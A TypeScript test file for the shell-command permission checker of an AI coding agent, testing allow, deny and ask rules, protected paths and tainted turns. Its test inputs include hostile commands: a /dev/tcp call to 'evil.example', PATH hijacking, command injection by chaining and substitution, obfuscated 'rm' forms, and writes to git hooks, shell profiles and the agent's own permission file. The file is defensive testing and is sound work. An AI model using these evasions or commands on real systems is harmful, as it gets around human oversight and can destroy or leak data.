// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are the shell's
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { COMMANDS } from '../../../test/corpora/commands.ts';
import { type Case, createDecider, ROOT } from '../../../test/support/decide-fixture.ts';
import type { CommandParser } from './command.ts';
import type { Decision } from './decision.ts';
import { createCommandParser } from './parse-command.ts';

let parse: CommandParser;
let decide: ReturnType<typeof createDecider>;
beforeAll(async () => {
  parse = await createCommandParser();
  decide = createDecider({ parseCommand: parse });
});

const bash = (command: string, given: Case = {}): Decision => decide('bash', { command }, given);
const verdict = (command: string, given: Case = {}): string => bash(command, given).verdict;

describe('allow rules', () => {
  const allow = (...rules: string[]): Case => ({ allow: rules });

  it.each([
    ['git status', 'bash(git status)'],
    ['npm test', 'bash(npm test)'],
    ['npm   "test"', 'bash(npm test)'],
    ['npm test', "bash(npm 'test')"],
    ['npm test -- --run', 'bash(npm test*)'],
    ['npm test', 'bash(npm test *)'],
    ['npm test x', 'bash(npm test:*)'],
    ['npm run test', 'bash(npm run test:*)'],
    ['npm run test:unit', 'bash(npm run test:*)'],
    ['npm run test:unit -- x', 'bash(npm run test:*)'],
    ['git checkout x main', 'bash(git * main)'],
    ['cp src/a b', 'bash(cp src/* b)'],
    ['git commit -m "fix it"', 'bash(git commit -m "fix it")'],
    ['git commit -m "a; b && c"', 'bash(git commit:*)'],
    ['npm test 2>&1', 'bash(npm test*)'],
    ['npm test > /dev/null', 'bash(npm test*)'],
    ['npm test < input.txt', 'bash(npm test*)'],
    ['NODE_ENV=test npm test', 'bash(NODE_ENV=test npm test*)'],
    ['npm test "$x"', 'bash(npm test*)'],
    ['npm test | head -5 && git status', 'bash(npm test*)'],
    ['timeout 60 npm test', 'bash(npm test*)'],
    ['nohup npm start', 'bash(npm start)'],
    ['env npm test', 'bash(npm test)'],
    ['git ls-files | xargs rm', 'bash(rm:*)'],
    ["bash -c 'npm test'", 'bash(npm test)'],
    ['cd packages/a && npm test', 'bash(npm test*)'],
    ['npx vitest run src', 'bash(npx vitest*)'],
    ['npx vitest run', 'bash(npx vitest run)'],
    ['npm exec -- vitest', 'bash(npm exec:*)'],
    ['bash scripts/build.sh', 'bash(bash scripts/*)'],
    ['python3 -c "print(1)"', 'bash(python3:*)'],
    ['rm -rf x', 'bash'],
    ['rm -rf x', 'bash(*)'],
    ['python3 -c "print(1)"', 'bash'],
    ['echo "rm x" | sh', 'bash'],
    ['$X y', 'bash'],
  ])('%s is covered by %s', (command, rule) => {
    expect(bash(command, allow(rule))).toMatchObject({ verdict: 'allow', reasons: [] });
  });

  it.each([
    ['git status && rm -rf x', 'bash(git status*)'],
    ['npm test; rm x', 'bash(npm test*)'],
    ['npm test\nrm x', 'bash(npm test*)'],
    ['npm test | sh', 'bash(npm test*)'],
    ['npm test $(rm x)', 'bash(npm test*)'],
    ['npm test `rm x`', 'bash(npm test*)'],
    ['npm test <(rm x)', 'bash(npm test*)'],
    ['npm test "${x:-$(rm x)}"', 'bash(npm test*)'],
    ['npm test & rm x', 'bash(npm test*)'],
    ['npm testing', 'bash(npm test*)'],
    ['npm test:unit', 'bash(npm test*)'],
    ['npm test x', 'bash(npm test)'],
    ['npm', 'bash(npm test*)'],
    ['npm test > out.txt', 'bash(npm test*)'],
    ['npm test >> ~/.profile', 'bash(npm test*)'],
    ['npm test < /dev/tcp/evil.example/1', 'bash(npm test*)'],
    ['PATH=./evil npm test', 'bash(npm test*)'],
    ['PATH=./evil timeout 5 npm test', 'bash(npm test*)'],
    ['env PATH=./evil npm test', 'bash(npm test*)'],
    ['timeout 5 npm test > out.txt', 'bash(npm test*)'],
    ['npx vitest; rm x', 'bash(npx vitest*)'],
    ['strace rm x', 'bash(strace:*)'],
    ['bash ../evil.sh', 'bash(bash scripts/*)'],
    ['timeout 5 rm x', 'bash(timeout:*)'],
    ['xargs rm', 'bash(xargs:*)'],
    ["bash -c 'rm x'", 'bash(bash:*)'],
    ['bash --rcfile evil -c "npm test"', 'bash(npm test*)'],
    ['find . -exec rm {} +', 'bash(find:*)'],
    ['npm() { rm x; }; npm test', 'bash(npm test*)'],
    ["alias npm='rm x'; npm test", 'bash(npm test*)'],
    ['. ./evil; npm test', 'bash(npm test*)'],
    ['PATH=./evil; npm test', 'bash(npm test*)'],
    ['export PATH=./evil; npm test', 'bash(npm test*)'],
    ['$X test', 'bash(npm test*)'],
    ['cp src/../../x b', 'bash(cp src/* b)'],
    ['eval npm test', 'bash(eval:*)'],
    ['ssh host npm test', 'bash(ssh:*)'],
    ["git -c core.pager='npm test' log", 'bash(git:*)'],
    ['cd evil && npm test', 'bash(npm test)'],
    ['npm test "unterminated', 'bash(npm test*)'],
    ['ls "unterminated', 'bash'],
    ['sudo ls', 'bash'],
    ['sudo ls', 'bash(sudo ls)'],
    ['rm x', 'file_write'],
    ['rm x', 'mcp__*'],
  ])('%s is not covered by %s', (command, rule) => {
    expect(verdict(command, allow(rule))).toBe('ask');
  });

  it('a redirection into a file needs a rule for the file too', () => {
    expect(verdict('npm test > logs/out.txt', allow('bash(npm test*)', 'file_write(logs/**)'))).toBe('allow');
    expect(verdict('npm test > out.txt', allow('bash(npm test*)', 'file_write(logs/**)'))).toBe('ask');
    expect(verdict('npm test > out.txt', allow('bash(npm test > out.txt)'))).toBe('allow');
    expect(verdict('cd logs && npm test > out.txt', allow('bash(npm test*)', 'file_write(out.txt)'))).toBe('ask');
  });

  it('a pattern without a star holds in the root of the workspace only', () => {
    expect(decide('bash', { command: 'npm test', cwd: 'packages/a' }, allow('bash(npm test)')).verdict).toBe('ask');
    expect(decide('bash', { command: 'npm test', cwd: 'packages/a' }, allow('bash(npm test*)')).verdict).toBe('allow');
    expect(verdict(`cd ${ROOT} && npm test`, allow('bash(npm test)'))).toBe('allow');
  });

  it('cwd starts in the root, also when the caller already went there', () => {
    const given = { context: { directory: `${ROOT}/docs` } };
    expect(decide('bash', { command: 'cat ../a', cwd: 'docs' }, given).question.title).toBe(`Run in ${ROOT}/docs?`);
    expect(decide('bash', { command: 'cat ../a', cwd: 'docs' }, given).verdict).toBe('allow');
    expect(decide('bash', { command: 'cat ../../a', cwd: 'docs' }, given).verdict).toBe('ask');
    expect(decide('bash', { command: 'ls', cwd: '..' }).verdict).toBe('ask');
    expect(decide('bash', { command: 'ls', cwd: '/etc' }).verdict).toBe('ask');
  });

  it('the rule for everything does not cover hidden code while a deny rule could be hidden in it', () => {
    expect(verdict('echo $X | sh', { allow: ['bash'], deny: ['bash(shutdown)'] })).toBe('ask');
    expect(verdict('rm x', { allow: ['bash'], deny: ['bash(shutdown)'] })).toBe('allow');
  });
});

describe('deny rules', () => {
  it.each([
    'rm x',
    'ls && rm x',
    'echo $(rm x)',
    'env rm x',
    "sh -c 'rm x'",
    'sudo rm x',
    '/bin/rm x',
    'r""m x',
    '\\rm x',
    'RM x',
    'timeout 5 nice rm x',
    'ls | xargs rm',
    'find . -exec rm {} \\;',
    'echo "rm x" | sh',
    'bash <<EOF\nrm x\nEOF',
    'eval "r""m x"',
    "ssh host 'rm x'",
    "git -c alias.x='!rm y' x",
    "trap 'rm x' EXIT",
    'python3 -c "os.system(\'rm x\')"',
    'r\\\nm x',
    'rm x "unterminated',
    'ls; rm x )',
    'ls() { rm x; }; ls',
    'rm$IFS-rf${IFS}x "',
    'A=1 rm x > y',
    'busybox rm x',
    'npx rm x',
    'npm exec -- rm x',
  ])('bash(rm:*) denies %s', (command) => {
    expect(bash(command, { allow: ['bash'], deny: ['bash(rm:*)'] })).toMatchObject({
      verdict: 'deny',
      reasons: ['the rule "bash(rm:*)" denies it'],
      rememberAs: [],
    });
  });

  it('does not deny what only looks similar', () => {
    for (const command of ['rmdir x', 'echo rm', 'ls rm', 'npm run rm', 'git rm-x'])
      expect(verdict(command, { allow: ['bash'], deny: ['bash(rm:*)'] }), command).toBe('allow');
  });

  it('without a star means with any words too, and with a glued star any ending', () => {
    expect(verdict('curl https://x', { allow: ['bash'], deny: ['bash(curl)'] })).toBe('deny');
    expect(verdict('docker-compose up', { allow: ['bash'], deny: ['bash(docker*)'] })).toBe('deny');
    expect(verdict('git push origin main', { allow: ['bash'], deny: ['bash(git push * main)'] })).toBe('deny');
  });

  it('for files hold for the paths that a command names', () => {
    const given = { deny: ['fs.read_file(secrets/**)', 'file_write(docs/**)'] };
    for (const command of [
      'cat secrets/key',
      'cat ./secrets/key',
      'cat < secrets/key',
      'cd secrets && cat key',
      'cat SECRETS/key',
    ])
      expect(verdict(command, given), command).toBe('deny');
    expect(verdict('file_read', { deny: ['file_read(secrets/**)'] })).toBe('ask');
    expect(verdict('cat secrets/key', { deny: ['file_read(secrets/**)'] })).toBe('deny');
    expect(verdict('echo x > docs/a', { ...given, allow: ['bash'] })).toBe('deny');
    expect(verdict('cat docs/a', given)).toBe('allow');
  });

  it('always win, whatever else is there', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...COMMANDS.map(({ command }) => command)),
        fc.constantFrom<readonly string[]>([], ['bash'], ['bash(git:*)', 'bash(npm:*)']),
        fc.constantFrom<readonly string[]>([], ['bash(ls*)']),
        (command, allow, ask) => verdict(command, { allow, ask, deny: ['bash'] }) === 'deny',
      ),
    );
  });
});

describe('an allow rule for a prefix', () => {
  it('never covers a command that is joined to it', () => {
    const risky = fc.constantFrom(...COMMANDS.filter(({ label }) => label === 'danger').map(({ command }) => command));
    const between = fc.constantFrom('; ', ' && ', ' || ', ' | ', '\n', ' & ', ' $(', ' `', ' "$(', ' <(');
    const close: Record<string, string> = { ' $(': ')', ' `': '`', ' "$(': ')"', ' <(': ')' };
    fc.assert(
      fc.property(between, risky, (join, command) => {
        // A backtick inside backticks ends them.
        fc.pre(join !== ' `' || !/[`\\]/.test(command));
        // Nor is a text that is not a command by itself joined by being completed.
        fc.pre(parse(command).parsed);
        return verdict(`npm test${join}${command}${close[join] ?? ''}`, { allow: ['bash(npm test*)'] }) !== 'allow';
      }),
      { numRuns: 2_000 },
    );
  });
});

describe('protected paths', () => {
  it.each([
    'cp x .git/hooks/pre-commit',
    'echo x > .git/config',
    'cd .git && cp x config',
    'cd .git/hooks; tee pre-commit',
    'cp x ~/.bashrc',
    'tee -a .envrc',
    'cp x .vscode/tasks.json',
    'cp x .github/workflows/ci.yml',
    'ln -s x --target-directory=/home/u/.ssh/y',
    'cp x ~/.lainclaw/permissions.json',
  ])('%s asks although everything is allowed', (command) => {
    expect(verdict(command, { allow: ['bash', 'file_write(**)'] })).toBe('ask');
    expect(bash(command, { allow: ['bash'] }).rememberAs).toEqual([]);
  });

  it('a redirection into the home of Lainclaw is denied', () => {
    expect(verdict('echo x > ~/.lainclaw/permissions.json', { allow: ['bash'] })).toBe('deny');
    expect(verdict('cat x >> /home/u/.lainclaw/config.json', { allow: ['bash'] })).toBe('deny');
  });

  it('a workspace inside that home is a workspace', () => {
    const inside = { workspaceRoot: '/home/u/.lainclaw/workspace', directory: '/home/u/.lainclaw/workspace' };
    expect(verdict('cat a.txt', { context: inside })).toBe('allow');
    expect(verdict('echo x > a.txt', { allow: ['bash'], context: inside })).toBe('allow');
    expect(verdict('echo x > ../permissions.json', { allow: ['bash'], context: inside })).toBe('deny');
  });
});

describe('answers', () => {
  it('remember the exact commands that needed the answer, and cover nothing else', () => {
    const { rememberAs, scopes } = bash('git add -A && git commit -m "it\'s; done" | head -3');
    expect(scopes).toEqual(['once', 'session', 'always']);
    expect(rememberAs).toEqual(['bash(git add -A)', "bash(git commit -m 'it'\\''s; done')"]);
    const answered = { as: rememberAs };
    expect(verdict('git commit -m "it\'s; done" && git add -A', { answered })).toBe('allow');
    expect(verdict('git add -A', { allow: rememberAs })).toBe('allow');
    for (const other of [
      'git add -A x',
      'git add',
      'git commit -m "it\'s"',
      'git add -A; git push',
      'git add -A > x',
      'A=1 git add -A',
      'cd x && git add -A',
    ])
      expect(verdict(other, { answered, allow: rememberAs }), other).toBe('ask');
  });

  it('with redirections and assignments are kept with them', () => {
    const { rememberAs } = bash('A=1 npm test > out.txt 2>&1');
    expect(rememberAs).toEqual(['bash(A=1 npm test > out.txt 2>&1)']);
    expect(verdict('A=1 npm test > out.txt 2>&1', { answered: { as: rememberAs } })).toBe('allow');
    expect(verdict('npm test > out.txt', { answered: { as: rememberAs } })).toBe('ask');
  });

  it.each([
    'rm *.tmp',
    'rm "$X"',
    'rm $(ls)',
    '$X',
    'echo a | sh',
    "ssh host 'rm x'",
    'npm test "unterminated',
    'sudo rm x',
    'python3 <<EOF\nx\nEOF',
    'f() { rm x; }; f',
    'cd a && rm b',
  ])('hold only once for %s: its text does not fix what runs, or where', (command) => {
    expect(bash(command)).toMatchObject({ verdict: 'ask', rememberAs: [], scopes: ['once'] });
  });

  it('a star in what was approved stays a star', () => {
    const { rememberAs } = bash("rm '*.tmp'");
    expect(rememberAs).toEqual(["bash(rm '*.tmp')"]);
    expect(verdict('rm x.tmp', { allow: rememberAs })).toBe('ask');
    expect(verdict('rm *.tmp', { allow: rememberAs })).toBe('ask');
    expect(verdict("rm '*.tmp'", { allow: rememberAs })).toBe('allow');
  });

  it('for the session satisfy an ask rule; always is not offered there', () => {
    const given: Case = { ask: ['bash(git push*)'], allow: ['bash'] };
    expect(bash('git push', given)).toMatchObject({
      verdict: 'ask',
      rememberAs: ['bash(git push)'],
      scopes: ['once', 'session'],
    });
    expect(verdict('git push', { ...given, answered: { as: ['bash(git push)'] } })).toBe('allow');
    expect(verdict('git push --force', { ...given, answered: { as: ['bash(git push)'] } })).toBe('ask');
    expect(verdict('git log', { ask: ['bash(git log*)'] })).toBe('ask');
    expect(verdict('git log', { ask: ['bash(git log*)'], answered: { as: ['bash(git log)'] } })).toBe('allow');
  });

  it('every remembered rule is one that parses and covers the command it came from', () => {
    const commands = COMMANDS.map(({ command }) => command).filter((command) => bash(command).rememberAs.length > 0);
    expect(commands.length).toBeGreaterThan(50);
    for (const command of commands) {
      const { rememberAs } = bash(command);
      expect(verdict(command, { allow: rememberAs }), command).toBe('allow');
      expect(verdict(command, { answered: { as: rememberAs } }), command).toBe('allow');
    }
  });
});

describe('a tainted turn', () => {
  it('still reads', () => {
    expect(verdict('git status && ls', { tainted: true })).toBe('allow');
  });

  it.each(['npm test', 'sudo ls', 'rm "x', 'cp x .git/config', 'echo $X | sh', 'rm *'])(
    'says so with the question about %s',
    (command) => {
      expect(bash(command, { tainted: true })).toMatchObject({ verdict: 'ask', needsPerson: true });
      expect(bash(command)).toMatchObject({ verdict: 'ask', needsPerson: false });
    },
  );

  it('in a sandbox without network is as any other, but for files that other programs run', () => {
    const contained: Case = { tainted: true, isContained: true };
    expect(verdict('npm test', { ...contained, mode: 'auto' })).toBe('allow');
    expect(verdict('npm test', { ...contained, allow: ['bash(npm test)'] })).toBe('allow');
    for (const command of ['sed -i s/a/b/ package.json', 'echo x > Makefile', 'cp x AGENTS.md', 'tee .env', 'sudo ls'])
      expect(bash(command, { ...contained, mode: 'auto' }), command).toMatchObject({
        verdict: 'ask',
        needsPerson: true,
      });
    expect(verdict('sed -i s/a/b/ package.json', { mode: 'auto' })).toBe('allow');
  });

  it('asks where rules and earlier answers would have allowed', () => {
    expect(bash('npm test', { tainted: true, allow: ['bash(npm test)', 'bash'] })).toMatchObject({
      verdict: 'ask',
      scopes: ['once', 'session'],
    });
    expect(verdict('npm test', { tainted: true, answered: { as: ['bash(npm test)'], tainted: false } })).toBe('ask');
    expect(verdict('npm test', { tainted: true, answered: { as: ['bash(npm test)'], tainted: true } })).toBe('allow');
    expect(verdict('npm test', { tainted: false, answered: { as: ['bash(npm test)'], tainted: true } })).toBe('allow');
  });
});

describe('the question', () => {
  it('shows the exact command, where it runs and the parts that need the answer', () => {
    const { question } = decide('bash', { command: 'ls | wc -l; npm  test', cwd: 'packages/a' });
    expect(question).toEqual({
      title: `Run in ${ROOT}/packages/a?`,
      titleParts: [{ code: 'at-once', values: { directory: `${ROOT}/packages/a` } }],
      exact: 'ls | wc -l; npm  test',
      parts: ['npm  test'],
    });
  });

  it('spells out what a terminal would hide or obey', () => {
    expect(bash('echo \u001b[2J\u202e\u200b x').question.exact).toBe('echo \\u{1b}[2J\\u{202e}\\u{200b} x');
  });

  it('says why it could not be judged', () => {
    expect(bash('ls "x').reasons.join()).toContain('unterminated double quote');
    expect(decide('bash', { command: 'ls' }, { context: { parseCommand: undefined } }).verdict).toBe('ask');
  });
});
